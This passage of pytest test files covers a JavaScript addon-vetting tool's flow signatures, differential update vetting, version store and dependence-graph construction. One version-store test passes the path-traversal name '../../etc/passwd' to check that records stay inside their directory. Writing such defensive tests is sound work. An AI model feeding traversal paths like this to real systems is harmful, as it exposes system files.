        assert certificate.reason == REFUSED_DYNAMIC_PROPERTIES

    def test_loop_in_change_refuses(self):
        certificate = certify(BASE, BASE + "\nwhile (true) { }")
        assert not certificate.certified
        assert certificate.reason == REFUSED_CONTROL_FLOW

    def test_throw_in_change_refuses(self):
        certificate = certify(BASE, BASE + "\nthrow 1;")
        assert not certificate.certified
        assert certificate.reason == REFUSED_CONTROL_FLOW

    def test_call_in_change_refuses(self):
        # An isolated-looking IIFE can still recurse forever, severing
        # the reachability of everything after it.
        certificate = certify(
            BASE, BASE + "\nvar spin = (function f() { return f(); })();"
        )
        assert not certificate.certified
        assert certificate.reason == REFUSED_CALL

    def test_spec_surface_overlap_refuses(self):
        # An otherwise-isolated object literal whose key is a spec name
        # ("send"): no call, no shared variable — the overlap check
        # alone must refuse it.
        certificate = certify(BASE, BASE + "\nvar island = { send: 1 };")
        assert not certificate.certified
        assert certificate.reason == REFUSED_SPEC_OVERLAP
        assert "send" in certificate.overlap

    def test_callless_spec_alias_cannot_certify_into_use(self):
        # Aliasing a sink constructor without calling it is harmless by
        # itself (certifiable); actually *using* the alias needs a call
        # or a spec-named method, both of which refuse.
        certificate = certify(BASE, BASE + "\nvar probe = XMLHttpRequest;")
        assert certificate.certified
        used = BASE + "\nvar probe = XMLHttpRequest;\nvar live = new probe();"
        certificate = certify(BASE, used)
        assert not certificate.certified
        assert certificate.reason == REFUSED_CALL

    def test_shared_names_with_unchanged_half_refuse(self):
        # The change writes `palette`, which unchanged statements read:
        # not an island, even though no spec name is involved.
        certificate = certify(BASE, BASE + '\npalette.light = "#eee";')
        assert not certificate.certified
        assert certificate.reason == REFUSED_SHARED_NAMES
        assert "palette" in certificate.overlap

    def test_edited_value_with_shared_name_refuses(self):
        # The classic counterexample to "spec-disjoint is enough": the
        # edited statement only touches a plain string variable, but an
        # unchanged statement feeds it into a sink.
        old = (
            'var endpointUrl = "http://a.example.com/";\n'
            "var req = new XMLHttpRequest();\n"
            'req.open("GET", endpointUrl);\n'
            "req.send();"
        )
        new = old.replace("a.example.com", "b.example.com")
        certificate = certify(old, new)
        assert not certificate.certified
        assert certificate.reason == REFUSED_SHARED_NAMES
        assert "endpointUrl" in certificate.overlap

    def test_never_raises_on_garbage(self):
        for garbage in ("", "\x00\x01", "}{", "var x = ;"):
            certificate = certify(garbage, garbage)
            assert certificate.certified or certificate.reason
