"""The version store: per-addon chains, idempotence, and quarantine."""

import json

import pytest

from repro.diffvet import VersionStore

pytestmark = pytest.mark.diffvet


class TestChains:
    def test_unknown_addon_has_empty_chain(self, tmp_path):
        store = VersionStore(tmp_path)
        assert store.chain("never-seen") == []
        assert store.baseline("never-seen") is None

    def test_record_and_read_back(self, tmp_path):
        store = VersionStore(tmp_path)
        record = store.record(
            "addon", "var a = 1;", "", verdict="pass"
        )
        assert record.version == 1
        head = store.baseline("addon")
        assert head is not None
        assert head.source == "var a = 1;"
        assert head.verdict == "pass"
        assert head.engine_version > 0

    def test_chain_grows_oldest_first(self, tmp_path):
        store = VersionStore(tmp_path)
        store.record("addon", "var a = 1;", "")
        store.record("addon", "var a = 2;", "sig-2")
        chain = store.chain("addon")
        assert [record.version for record in chain] == [1, 2]
        assert store.baseline("addon").signature_text == "sig-2"

    def test_recording_head_bytes_is_idempotent(self, tmp_path):
        store = VersionStore(tmp_path)
        store.record("addon", "var a = 1;", "")
        store.record("addon", "var a = 1;", "")
        assert len(store.chain("addon")) == 1

    def test_reloading_store_sees_persisted_chains(self, tmp_path):
        VersionStore(tmp_path).record("addon", "var a = 1;", "")
        assert len(VersionStore(tmp_path).chain("addon")) == 1

    def test_names_lists_recorded_addons(self, tmp_path):
        store = VersionStore(tmp_path)
        store.record("beta", "var b = 1;", "")
        store.record("alpha", "var a = 1;", "")
        assert store.names() == ["alpha", "beta"]


class TestHostileNamesAndDisk:
    def test_hostile_names_stay_inside_the_directory(self, tmp_path):
        store = VersionStore(tmp_path)
        name = "../../etc/passwd"
        store.record(name, "var a = 1;", "")
        assert store.baseline(name).source == "var a = 1;"
        recorded = list((tmp_path / "versions").glob("*.json"))
        assert len(recorded) == 1
        assert recorded[0].parent == tmp_path / "versions"

    def test_distinct_names_with_same_slug_do_not_collide(self, tmp_path):
        store = VersionStore(tmp_path)
        store.record("addon/one", "var a = 1;", "sig-a")
        store.record("addon:one", "var b = 2;", "sig-b")
        assert store.baseline("addon/one").signature_text == "sig-a"
        assert store.baseline("addon:one").signature_text == "sig-b"

    def test_corrupt_chain_is_quarantined_not_served(self, tmp_path):
        store = VersionStore(tmp_path)
        store.record("addon", "var a = 1;", "")
        path = next((tmp_path / "versions").glob("*.json"))
        path.write_text("{truncated", encoding="utf-8")
        assert store.chain("addon") == []
        assert path.with_suffix(".corrupt").exists()
        # The quarantined chain never resurrects: a fresh record starts
        # a new chain at version 1.
        assert store.record("addon", "var a = 2;", "").version == 1

    def test_chain_file_is_valid_schema_tagged_json(self, tmp_path):
        store = VersionStore(tmp_path)
        store.record("addon", "var a = 1;", "")
        path = next((tmp_path / "versions").glob("*.json"))
        data = json.loads(path.read_text(encoding="utf-8"))
        assert data["schema"] == "addon-sig/version-chain/v1"
        assert data["name"] == "addon"
        assert len(data["chain"]) == 1
