"""Differential vetting through the batch engine.

The engine-level guarantees: the fast lane never changes a batch result
(bit-identity with the incremental switch off), baselines resolve from
a :class:`VersionStore` or a plain mapping, stores advance their chains
with clean outcomes only, and fast-lane outcomes cache and replay like
any other outcome.
"""

import dataclasses
from pathlib import Path

import pytest

from repro.batch import VetTask, summarize, vet_many
from repro.diffvet import VersionStore, discover_pairs

pytestmark = pytest.mark.diffvet

REPO = Path(__file__).resolve().parents[2]
VERSIONS = REPO / "examples" / "addons" / "versions"
PAIRS = discover_pairs(VERSIONS)


def _baseline_outcomes():
    return vet_many(
        [
            VetTask(name=pair.name, source=pair.old_source(), recover=True)
            for pair in PAIRS
        ],
        use_cache=False, workers=1,
    )


def _update_tasks(baselines, incremental):
    return [
        VetTask(
            name=pair.name,
            source=pair.new_source(),
            recover=True,
            baseline_source=pair.old_source(),
            baseline_signature_text=outcome.signature_text,
            incremental=incremental,
        )
        for pair, outcome in zip(PAIRS, baselines)
    ]


class TestFastLaneIdentity:
    """Acceptance: fast lane on == fast lane off, for every pair."""

    @pytest.fixture(scope="class")
    def baselines(self):
        return _baseline_outcomes()

    def test_signatures_bit_identical_on_vs_off(self, baselines):
        fast = vet_many(
            _update_tasks(baselines, True), use_cache=False, workers=1
        )
        full = vet_many(
            _update_tasks(baselines, False), use_cache=False, workers=1
        )
        for on, off in zip(fast, full):
            assert on.ok and off.ok
            assert on.signature_text == off.signature_text
            assert on.diff_verdict is not None and off.diff_verdict is not None

    def test_fast_lane_actually_fires(self, baselines):
        fast = vet_many(
            _update_tasks(baselines, True), use_cache=False, workers=1
        )
        by_name = {outcome.name: outcome for outcome in fast}
        assert by_name["big_dashboard"].incremental
        assert by_name["big_dashboard"].diff_verdict == "approve-fast"
        # A fast-laned outcome still reports a nonzero p1 (the
        # certificate check) and a real AST size.
        assert by_name["big_dashboard"].ast_nodes > 0
        assert by_name["big_dashboard"].timing_samples == 1

    def test_cost_gate_skips_certification_on_small_updates(self, baselines):
        # ui_theme's certificate would hold, but the addon is far below
        # the cost gate: parsing it twice to certify costs more than
        # simply re-analyzing it, so the engine skips certification and
        # records the skip.
        fast = vet_many(
            _update_tasks(baselines, True), use_cache=False, workers=1
        )
        by_name = {outcome.name: outcome for outcome in fast}
        small = by_name["ui_theme"]
        assert not small.incremental
        assert small.counters.get("certification_skipped") == 1
        assert by_name["big_dashboard"].counters.get(
            "certification_attempted"
        ) == 1
        # Gate off: the certificate fires even on the tiny update.
        ungated = vet_many(
            [
                dataclasses.replace(task, fast_lane_min_chars=0)
                for task in _update_tasks(baselines, True)
            ],
            use_cache=False, workers=1,
        )
        assert {o.name: o for o in ungated}["ui_theme"].incremental

    def test_incremental_off_never_fast_lanes(self, baselines):
        full = vet_many(
            _update_tasks(baselines, False), use_cache=False, workers=1
        )
        assert not any(outcome.incremental for outcome in full)

    def test_re_reviews_carry_changes_and_witnesses(self, baselines):
        fast = vet_many(
            _update_tasks(baselines, True), use_cache=False, workers=1
        )
        by_name = {outcome.name: outcome for outcome in fast}
        widened = by_name["telemetry_beacon"]
        assert widened.diff_verdict == "re-review"
        assert any(
            change["kind"] == "widened" for change in widened.diff_changes
        )
        reversed_sync = vet_many(
            [
                VetTask(
                    name="sync_report_reversed",
                    source=next(
                        p for p in PAIRS if p.name == "sync_report"
                    ).old_source(),
                    baseline_source=next(
                        p for p in PAIRS if p.name == "sync_report"
                    ).new_source(),
                    baseline_signature_text=by_name["sync_report"].signature_text,
                )
            ],
            use_cache=False, workers=1,
        )[0]
        # Old direction gains the cookie flow: a witness path comes along.
        assert reversed_sync.diff_verdict == "re-review"
        assert reversed_sync.diff_witnesses

    def test_summarize_counts_incremental_and_diff_verdicts(self, baselines):
        fast = vet_many(
            _update_tasks(baselines, True), use_cache=False, workers=1
        )
        summary = summarize(fast)
        assert summary["incremental"] == sum(1 for o in fast if o.incremental)
        assert summary["diff_verdicts"]["approve-fast"] >= 1
        assert summary["diff_verdicts"]["re-review"] >= 1
        assert summary["certifications"]["attempted"] >= 1
        assert summary["certifications"]["skipped"] >= 1


class TestBaselineResolution:
    def test_mapping_baseline_resolves_by_name(self, tmp_path):
        old = "var quiet = 1;"
        new = "// churn\nvar quiet = 1;"
        [outcome] = vet_many(
            # fast_lane_min_chars=0: the fixture is tiny by design; the
            # test exercises baseline resolution, not the cost gate.
            [VetTask(name="addon", source=new, fast_lane_min_chars=0)],
            baseline={"addon": (old, "")},
            use_cache=False, workers=1,
        )
        assert outcome.incremental
        assert outcome.diff_verdict == "approve-fast"

    def test_unmatched_names_vet_cold(self):
        [outcome] = vet_many(
            [VetTask(name="addon", source="var a = 1;")],
            baseline={"other": ("var b = 2;", "")},
            use_cache=False, workers=1,
        )
        assert outcome.ok
        assert not outcome.incremental
        assert outcome.diff_verdict is None

    def test_store_supplies_baselines_and_advances_chains(self, tmp_path):
        store = VersionStore(tmp_path)
        old = "var quiet = 1;"
        new = "var quiet = 1;\nvar island_probe = { probe_key: 2 };"
        [first] = vet_many(
            [VetTask(name="addon", source=old, fast_lane_min_chars=0)],
            store=store, use_cache=False, workers=1,
        )
        assert not first.incremental  # no baseline yet
        assert len(store.chain("addon")) == 1
        [second] = vet_many(
            [VetTask(name="addon", source=new, fast_lane_min_chars=0)],
            store=store, use_cache=False, workers=1,
        )
        assert second.incremental
        assert second.diff_verdict == "approve-fast"
        chain = store.chain("addon")
        assert [record.version for record in chain] == [1, 2]
        assert chain[-1].diff_verdict == "approve-fast"

    def test_replaying_a_sweep_does_not_grow_chains(self, tmp_path):
        store = VersionStore(tmp_path)
        task = VetTask(name="addon", source="var quiet = 1;")
        vet_many([task], store=store, use_cache=False, workers=1)
        vet_many([task], store=store, use_cache=False, workers=1)
        assert len(store.chain("addon")) == 1

    def test_degraded_outcomes_never_recorded(self, tmp_path):
        store = VersionStore(tmp_path)
        broken = "var ok = 1;\nwith (ok) { var x = 2; }"
        [outcome] = vet_many(
            [VetTask(name="addon", source=broken, recover=True)],
            store=store, use_cache=False, workers=1,
        )
        assert outcome.ok and outcome.degraded
        assert store.chain("addon") == []


class TestCaching:
    def test_fast_lane_outcome_caches_and_replays(self, tmp_path):
        old = "var quiet = 1;"
        task = VetTask(
            name="addon", source="// churn\n" + old,
            baseline_source=old, baseline_signature_text="",
            fast_lane_min_chars=0,
        )
        [first] = vet_many([task], cache_dir=tmp_path, workers=1)
        assert first.incremental and not first.cached
        [replay] = vet_many([task], cache_dir=tmp_path, workers=1)
        assert replay.cached
        assert replay.incremental
        assert replay.diff_verdict == "approve-fast"
        assert replay.signature_text == first.signature_text

    def test_baseline_is_part_of_the_cache_key(self, tmp_path):
        source = "var quiet = 1;"
        plain = VetTask(name="addon", source=source)
        update = VetTask(
            name="addon", source=source,
            baseline_source="var older = 0;", baseline_signature_text="",
        )
        [cold] = vet_many([plain], cache_dir=tmp_path, workers=1)
        assert not cold.cached
        [differential] = vet_many([update], cache_dir=tmp_path, workers=1)
        # A differential task must never be served the cold task's
        # cached outcome (it would lack the diff verdict).
        assert not differential.cached
        assert differential.diff_verdict is not None
