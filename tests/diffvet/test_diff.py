"""Signature diffing: the entry-change classifier and the diff verdict.

The classifier must work under the signature lattice order, never under
string equality: a prefix-domain entry that generalizes is a *widening*
of the same claim, not a removal plus a new flow.
"""

import pytest

from repro.diffvet import CHANGE_KINDS, diff_signatures
from repro.domains import prefix as prefix_domain
from repro.signatures.compare import classify_entry_change, entry_key
from repro.signatures.flowtypes import FlowType
from repro.signatures.signature import (
    ApiEntry,
    FlowEntry,
    Signature,
    parse_signature,
)

pytestmark = pytest.mark.diffvet


def flow(source="url", flow_type=FlowType.TYPE1, sink="send", domain=None):
    return FlowEntry(source=source, flow_type=flow_type, sink=sink, domain=domain)


def sig(*entries) -> Signature:
    return Signature(entries=frozenset(entries))


class TestEntryKey:
    def test_flow_identity_is_source_and_sink(self):
        a = flow(domain=prefix_domain.exact("a.com"))
        b = flow(domain=prefix_domain.prefix("b."))
        assert entry_key(a) == entry_key(b)

    def test_api_identity_is_the_api(self):
        assert entry_key(ApiEntry(api="eval")) == entry_key(ApiEntry(api="eval"))
        assert entry_key(ApiEntry(api="eval")) != entry_key(ApiEntry(api="send"))

    def test_flow_and_api_never_collide(self):
        assert entry_key(flow(sink="send")) != entry_key(ApiEntry(api="send"))


class TestClassifyEntryChange:
    def test_identical_entry_is_unchanged(self):
        entry = flow(domain=prefix_domain.exact("stats.example.com"))
        assert classify_entry_change({entry}, entry) == "unchanged"

    def test_domain_tightened_is_narrowed(self):
        old = flow(domain=prefix_domain.prefix("http://rank-"))
        new = flow(domain=prefix_domain.exact("http://rank-a.example.com/q"))
        assert classify_entry_change({old}, new) == "narrowed"

    def test_domain_generalized_is_widened(self):
        old = flow(domain=prefix_domain.exact("stats.example.com"))
        new = flow(domain=prefix_domain.prefix("stats"))
        assert classify_entry_change({old}, new) == "widened"

    def test_incomparable_domains_widen_conservatively(self):
        old = flow(domain=prefix_domain.exact("a.example.com"))
        new = flow(domain=prefix_domain.exact("b.example.com"))
        assert classify_entry_change({old}, new) == "widened"

    def test_weaker_flow_type_is_narrowed(self):
        domain = prefix_domain.exact("x.example.com")
        old = flow(flow_type=FlowType.TYPE1, domain=domain)
        new = flow(flow_type=FlowType.TYPE3, domain=domain)
        assert classify_entry_change({old}, new) == "narrowed"

    def test_stronger_flow_type_is_widened(self):
        domain = prefix_domain.exact("x.example.com")
        old = flow(flow_type=FlowType.TYPE3, domain=domain)
        new = flow(flow_type=FlowType.TYPE1, domain=domain)
        assert classify_entry_change({old}, new) == "widened"

    def test_empty_group_is_a_caller_bug(self):
        with pytest.raises(ValueError):
            classify_entry_change(set(), flow())


class TestDiffSignatures:
    def test_identical_signatures_all_unchanged(self):
        signature = sig(
            flow(domain=prefix_domain.exact("a.com")), ApiEntry(api="eval")
        )
        diff = diff_signatures(signature, signature)
        assert {change.kind for change in diff.changes} == {"unchanged"}
        assert diff.verdict == "approve"

    def test_new_source_sink_pair_is_new_flow(self):
        old = sig()
        new = sig(flow(domain=prefix_domain.exact("a.com")))
        diff = diff_signatures(old, new)
        assert [change.kind for change in diff.changes] == ["new-flow"]
        assert diff.verdict == "re-review"

    def test_dropped_pair_is_removed_flow_and_approves(self):
        old = sig(
            flow(source="cookie", domain=prefix_domain.exact("a.com")),
            flow(source="url", domain=prefix_domain.exact("a.com")),
        )
        new = sig(flow(source="url", domain=prefix_domain.exact("a.com")))
        diff = diff_signatures(old, new)
        assert diff.counts["removed-flow"] == 1
        assert diff.counts["unchanged"] == 1
        assert diff.verdict == "approve"

    def test_prefix_widening_is_not_removed_plus_new(self):
        old = sig(flow(domain=prefix_domain.exact("stats.example.com")))
        new = sig(flow(domain=prefix_domain.prefix("stats")))
        diff = diff_signatures(old, new)
        assert [change.kind for change in diff.changes] == ["widened"]
        assert diff.counts["removed-flow"] == 0
        assert diff.counts["new-flow"] == 0

    def test_review_entries_are_only_widened_and_new(self):
        old = sig(flow(source="url", domain=prefix_domain.exact("a.com")))
        new = sig(
            flow(source="url", domain=prefix_domain.prefix("a")),
            flow(source="cookie", domain=prefix_domain.exact("a.com")),
        )
        diff = diff_signatures(old, new)
        kinds = {change.kind for change in diff.changes}
        assert kinds == {"widened", "new-flow"}
        assert len(diff.review_entries) == 2
        assert diff.verdict == "re-review"

    def test_counts_cover_the_closed_kind_vocabulary(self):
        diff = diff_signatures(sig(), sig())
        assert set(diff.counts) == set(CHANGE_KINDS)

    def test_diff_round_trips_through_parsed_signatures(self):
        old = parse_signature("url -type1-> send(stats.example.com)")
        new = parse_signature("url -type1-> send(stats...)")
        diff = diff_signatures(old, new)
        assert [change.kind for change in diff.changes] == ["widened"]
        data = diff.to_json()
        assert data["verdict"] == "re-review"
        assert data["changes"][0]["old"] == "url -type1-> send(stats.example.com)"
        assert data["changes"][0]["new"] == "url -type1-> send(stats...)"
