"""The fast lane's soundness, proven pair-by-pair.

The claim: whenever the change-surface certificate certifies an update,
the full pipeline run on the new version produces *exactly* the
signature of the old version — bit-identical rendered text — so serving
the approved signature without re-analysis can never change a vetting
outcome. These tests check that equality over every curated version
pair, over synthesized identity/churn/island pairs derived from the
benchmark and examples corpora, and under recovery mode; under
budget-trip degradation the claim weakens to subsumption (a degraded
⊤-widened re-analysis must still cover the served signature), mirroring
the relevance prefilter's soundness suite.
"""

from pathlib import Path

import pytest

from repro.addons import CORPUS
from repro.api import diff_vet, vet
from repro.browser import mozilla_spec
from repro.diffvet import certify_unchanged, discover_pairs
from repro.faults import Budget
from repro.signatures import subsumes

pytestmark = pytest.mark.diffvet

REPO = Path(__file__).resolve().parents[2]
VERSIONS = REPO / "examples" / "addons" / "versions"
EXAMPLE_FILES = sorted((REPO / "examples" / "addons").glob("*.js"))
SPEC = mozilla_spec()

#: Certified-by-construction rewrites of any clean source.
CHURN = "// churned comment line\n"
ISLAND = "\nvar island_probe_xyz = { island_key_xyz: 1 };"


def _signature(source: str, **kwargs) -> str:
    return vet(source, **kwargs).signature.render()


def _prove_pair(old: str, new: str, **vet_kwargs) -> None:
    """Certified implies bit-identical full-analysis signatures."""
    certificate = certify_unchanged(
        old, new, SPEC, recover=vet_kwargs.get("recover", False)
    )
    if certificate.certified:
        assert _signature(old, **vet_kwargs) == _signature(new, **vet_kwargs)


class TestVersionedPairs:
    """Every curated pair, certified or not, plain and recovery mode."""

    @pytest.mark.parametrize(
        "pair", discover_pairs(VERSIONS), ids=lambda p: p.name
    )
    def test_certified_implies_identical_signatures(self, pair):
        _prove_pair(pair.old_source(), pair.new_source())

    @pytest.mark.parametrize(
        "pair", discover_pairs(VERSIONS), ids=lambda p: p.name
    )
    def test_holds_under_recovery_mode(self, pair):
        _prove_pair(pair.old_source(), pair.new_source(), recover=True)

    @pytest.mark.parametrize(
        "pair", discover_pairs(VERSIONS), ids=lambda p: p.name
    )
    def test_fast_lane_serves_what_full_analysis_would_find(self, pair):
        report = diff_vet(pair.old_source(), pair.new_source())
        if report.fast_lane:
            served = report.new_signature.render()
            recomputed = _signature(pair.new_source())
            assert served == recomputed


class TestSynthesizedPairs:
    """Identity, comment-churn, and island updates over both corpora."""

    @pytest.mark.parametrize("spec", CORPUS, ids=lambda s: s.name)
    def test_corpus_identity_and_island_updates(self, spec):
        source = spec.source()
        _prove_pair(source, source)
        _prove_pair(source, CHURN + source)
        _prove_pair(source, source + ISLAND)

    @pytest.mark.parametrize("path", EXAMPLE_FILES, ids=lambda p: p.name)
    def test_example_churn_and_island_updates(self, path):
        source = path.read_text(encoding="utf-8")
        _prove_pair(source, CHURN + source, recover=True)
        _prove_pair(source, source + ISLAND, recover=True)

    def test_the_synthesized_shapes_do_certify_on_clean_input(self):
        # Guard against vacuous proofs: on a clean, static addon the
        # churn and island updates must actually take the fast lane.
        clean = (REPO / "examples" / "addons" / "ui_theme.js").read_text(
            encoding="utf-8"
        )
        assert certify_unchanged(clean, CHURN + clean, SPEC).certified
        assert certify_unchanged(clean, clean + ISLAND, SPEC).certified


class TestBudgetDegradation:
    """Fast lane composes soundly with budget-trip ⊤-widening."""

    def test_served_signature_below_degraded_reanalysis(self):
        # The fast lane serves the *complete* approved signature. A
        # budget-tripped full re-analysis ⊤-widens instead. Soundness
        # here is subsumption: the degraded result must cover what the
        # fast lane served — the same lattice guarantee the prefilter
        # proves against degraded runs.
        [pair] = [p for p in discover_pairs(VERSIONS) if p.name == "ui_theme"]
        report = diff_vet(pair.old_source(), pair.new_source())
        assert report.fast_lane
        degraded = vet(pair.new_source(), budget=Budget(max_steps=2))
        assert degraded.degraded
        assert subsumes(degraded.signature, report.new_signature)

    def test_degraded_baseline_never_reaches_the_fast_lane(self):
        # A (hypothetically) degraded old version cannot poison the fast
        # lane: diff_vet derives its baseline from a complete analysis,
        # and the batch engine's VersionStore records clean outcomes
        # only — here we check the certificate itself also refuses when
        # recovery actually skips statements.
        broken = "var ok = 1;\nwith (ok) { var x = 2; }"
        certificate = certify_unchanged(
            broken, broken + ISLAND, SPEC, recover=True
        )
        assert not certificate.certified
        assert certificate.reason == "degraded-input"
