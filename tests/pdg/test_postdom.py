"""Unit tests for postdominators and control dependence."""

from repro.pdg.postdom import (
    Digraph,
    augment_for_control_dependence,
    control_dependence,
    immediate_dominators,
)


def diamond():
    #    1
    #   / \
    #  2   3
    #   \ /
    #    4
    return Digraph([1, 2, 3, 4], {1: [2, 3], 2: [4], 3: [4], 4: []})


class TestDominators:
    def test_chain(self):
        graph = Digraph([1, 2, 3], {1: [2], 2: [3], 3: []})
        idom = immediate_dominators(graph, 1)
        assert idom == {1: 1, 2: 1, 3: 2}

    def test_diamond_join_dominated_by_branch(self):
        idom = immediate_dominators(diamond(), 1)
        assert idom[4] == 1
        assert idom[2] == 1 and idom[3] == 1

    def test_postdominators_via_reversal(self):
        ipdom = immediate_dominators(diamond().reversed(), 4)
        assert ipdom[1] == 4  # the join postdominates the branch

    def test_loop(self):
        graph = Digraph([1, 2, 3], {1: [2], 2: [1, 3], 3: []})
        idom = immediate_dominators(graph, 1)
        assert idom[2] == 1 and idom[3] == 2


class TestControlDependence:
    def test_diamond_arms_depend_on_branch(self):
        deps = control_dependence(diamond(), entry=1, exit_node=4)
        assert (1, 2) in deps and (1, 3) in deps
        assert (1, 4) not in deps  # the join always executes

    def test_straight_line_no_dependence_besides_entry(self):
        graph = Digraph([1, 2, 3], {1: [2], 2: [3], 3: []})
        deps = control_dependence(graph, entry=1, exit_node=3)
        # With the virtual entry->exit edge, interior nodes depend on the
        # entry (they execute iff the function is entered).
        assert all(source == 1 for source, _ in deps)

    def test_loop_body_depends_on_loop_branch(self):
        # 1 -> 2(branch) -> 3(body) -> 2;  2 -> 4(exit)
        graph = Digraph([1, 2, 3, 4], {1: [2], 2: [3, 4], 3: [2], 4: []})
        deps = control_dependence(graph, entry=1, exit_node=4)
        assert (2, 3) in deps

    def test_unreachable_node_gets_entry_edge(self):
        # Node 3 unreachable: the paper adds an entry edge before CDG.
        graph = Digraph([1, 2, 3], {1: [2], 2: [], 3: [2]})
        augmented = augment_for_control_dependence(graph, entry=1, exit_node=2)
        assert 3 in augmented.succs[1]

    def test_dead_end_gets_exit_edge(self):
        graph = Digraph([1, 2, 3], {1: [2, 3], 2: [], 3: []})
        augmented = augment_for_control_dependence(graph, entry=1, exit_node=3)
        assert 3 in augmented.succs[2]

    def test_nested_branches(self):
        # if (a) { if (b) c; }
        graph = Digraph(
            [1, 2, 3, 4, 5],
            {1: [2, 5], 2: [3, 5], 3: [5], 4: [], 5: [4]},
        )
        deps = control_dependence(graph, entry=1, exit_node=4)
        assert (1, 2) in deps
        assert (2, 3) in deps
        assert (1, 3) not in deps  # only transitively dependent
