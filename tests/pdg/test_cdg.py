"""Unit tests for the staged CDG construction."""

from repro.analysis import analyze
from repro.ir import lower
from repro.js import parse
from repro.pdg import Annotation, build_pdg
from repro.pdg.annotations import STAGE_ANNOTATIONS


def pdg_of(source, event_loop=False):
    program = lower(parse(source), event_loop=event_loop)
    result = analyze(program)
    return program, build_pdg(result)


def line_controls(program, pdg, source_line, target_line):
    found = set()
    for (source, target), annotations in pdg.edges.items():
        if (
            program.stmts[source].line == source_line
            and program.stmts[target].line == target_line
        ):
            found.update(a for a in annotations if a.is_control)
    return found


class TestAnnotationGrammar:
    def test_eight_annotations(self):
        assert len(Annotation) == 8

    def test_amplify_mapping(self):
        assert Annotation.LOCAL.amplified() is Annotation.LOCAL_AMP
        assert Annotation.NONLOC_EXP.amplified() is Annotation.NONLOC_EXP_AMP
        assert Annotation.NONLOC_IMP.amplified() is Annotation.NONLOC_IMP_AMP

    def test_amplify_data_is_identity(self):
        assert Annotation.DATA_STRONG.amplified() is Annotation.DATA_STRONG

    def test_classification(self):
        assert Annotation.DATA_WEAK.is_data
        assert Annotation.LOCAL_AMP.is_control
        assert Annotation.LOCAL_AMP.is_amplified
        assert not Annotation.LOCAL.is_amplified
        assert len(STAGE_ANNOTATIONS) == 3


class TestLocalStage:
    def test_if_consequent_local(self):
        program, pdg = pdg_of("if (Math.random())\nf();")
        assert Annotation.LOCAL in line_controls(program, pdg, 1, 2)

    def test_else_branch_local(self):
        program, pdg = pdg_of("if (Math.random())\nf();\nelse g();")
        assert Annotation.LOCAL in line_controls(program, pdg, 1, 3)

    def test_statement_after_if_not_dependent(self):
        program, pdg = pdg_of("if (Math.random())\nf();\ng();")
        assert not line_controls(program, pdg, 1, 3)


class TestNonLocalExplicitStage:
    def test_conditional_throw_shields_successor(self):
        program, pdg = pdg_of(
            "try {\nif (Math.random())\nthrow 'x';\nf();\n} catch (e) {}"
        )
        annotations = line_controls(program, pdg, 2, 4)
        assert Annotation.NONLOC_EXP in annotations
        assert Annotation.LOCAL not in annotations

    def test_break_makes_rest_of_loop_nonlocexp(self):
        program, pdg = pdg_of(
            "while (Math.random()) {\nif (Math.random())\nbreak;\nf();\n}"
        )
        annotations = line_controls(program, pdg, 2, 4)
        # Amplified because the source is inside the loop.
        assert Annotation.NONLOC_EXP_AMP in annotations

    def test_conditional_return_shields_successor(self):
        program, pdg = pdg_of(
            "function f() {\nif (Math.random())\nreturn 1;\ng();\n}\nf();"
        )
        annotations = line_controls(program, pdg, 2, 4)
        assert Annotation.NONLOC_EXP in annotations


class TestNonLocalImplicitStage:
    def test_possibly_undefined_base_gives_nonlocimp(self):
        program, pdg = pdg_of(
            "try {\nif (Math.random())\nmaybeUndefined.prop = 1;\nf();\n} catch (e) {}"
        )
        annotations = line_controls(program, pdg, 3, 4)
        assert Annotation.NONLOC_IMP in annotations

    def test_known_object_base_no_implicit_edges(self):
        program, pdg = pdg_of(
            "var o = {};\ntry {\no.prop = 1;\nf();\n} catch (e) {}"
        )
        annotations = line_controls(program, pdg, 3, 4)
        assert Annotation.NONLOC_IMP not in annotations


class TestAmplification:
    def test_loop_condition_amplified(self):
        program, pdg = pdg_of(
            "while (Math.random()) {\nf();\n}"
        )
        assert Annotation.LOCAL_AMP in line_controls(program, pdg, 1, 2)

    def test_plain_if_not_amplified(self):
        program, pdg = pdg_of("if (Math.random())\nf();")
        annotations = line_controls(program, pdg, 1, 2)
        assert Annotation.LOCAL in annotations
        assert Annotation.LOCAL_AMP not in annotations

    def test_recursion_amplifies(self):
        program, pdg = pdg_of(
            "function loop(n) {\nif (n > 0)\nloop(n - 1);\n}\nloop(9);"
        )
        annotations = line_controls(program, pdg, 2, 3)
        assert Annotation.LOCAL_AMP in annotations


class TestInterproceduralControl:
    def test_callee_entry_depends_on_call_site(self):
        program, pdg = pdg_of("function f() { g(); }\nf();")
        entry_sid = program.functions[1].entry.sid
        call_edges = [
            (source, target)
            for (source, target), annotations in pdg.edges.items()
            if target == entry_sid and any(a.is_control for a in annotations)
        ]
        assert call_edges

    def test_conditional_call_guards_callee(self):
        # Statements in the callee are transitively control dependent on
        # the branch via branch -> call -> entry -> body.
        program, pdg = pdg_of(
            "function f() {\nsend(1);\n}\nif (Math.random())\nf();"
        )
        frontier = pdg.reachable_from(
            {
                sid
                for sid, stmt in program.stmts.items()
                if stmt.line == 4 and type(stmt).__name__ == "BranchStmt"
            },
            allowed=frozenset(Annotation),
        )
        send_sids = {
            sid for sid, stmt in program.stmts.items()
            if stmt.line == 2 and type(stmt).__name__ == "CallStmt"
        }
        assert send_sids & frontier
