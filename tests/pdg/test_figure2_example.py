"""Reproduction of the paper's Figure 1 program and Figure 2 annotated
PDG — the worked example of Section 3.

The assertions check exactly the edges the paper's text calls out:

- ``1 --datastrong--> 2``: the send argument definitely reads the
  (object, "url") pair created at line 1;
- ``1 --dataweak--> 3``: the property name is unknown (getString());
- ``5 --local--> 6``: plain conditional, no loop;
- ``9 --local^amp--> 11``: loop body, amplified;
- ``14 --nonlocexp--> 16``: the explicit throw at 15 can prevent 16;
- ``20 --nonlocimp--> 21``: obj may be undefined, so line 20 may throw
  implicitly;
- uncaught-exception edges (e.g. from the call at line 4) are omitted.
"""

import pytest

from repro.analysis import analyze
from repro.ir import lower
from repro.ir.nodes import EntryStmt, ExitStmt
from repro.js import parse
from repro.pdg import Annotation, build_pdg

FIGURE1 = """var data = { url: doc.loc };
send(data.url);
send(data[getString()]);
func();
if (doc.loc == "secret.com")
  send(null);
var arr = ["covert.com", "priv.com"];
var i = 0, count = 0;
while(arr[i] && doc.loc != arr[i]) {
  i++;
  count++; }
send(count);
try {
  if (doc.loc != "hush-hush.com")
    throw "irrelevant";
  send(null);
} catch(x) {};
try {
  if (doc.loc != "mystic.com")
    obj.prop = 1;
  send(null);
} catch(x) {}"""


